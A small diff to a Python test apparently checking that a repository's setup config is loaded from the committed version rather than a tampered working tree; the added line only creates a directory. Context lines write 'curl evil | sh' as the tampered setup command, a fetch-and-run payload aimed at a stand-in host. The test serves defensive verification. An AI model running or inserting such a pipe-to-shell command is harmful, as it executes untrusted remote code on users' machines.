@@ -28,6 +28,7 @@ def test_setup_and_network_are_read(repo_factory, tmp_path):
 def test_the_file_is_read_from_the_commit_not_the_working_tree(repo_factory, tmp_path):
     repo = repo_factory({".github/decode.yml": "setup: [make deps]\n"})
     ws = prepare(str(repo), tmp_path / "run", "decode/t")
+    (ws.clean / ".github").mkdir()
     (ws.clean / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
     (ws.path / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
     assert load_repo_config(ws.git, ws.base_sha).setup == ("make deps",)
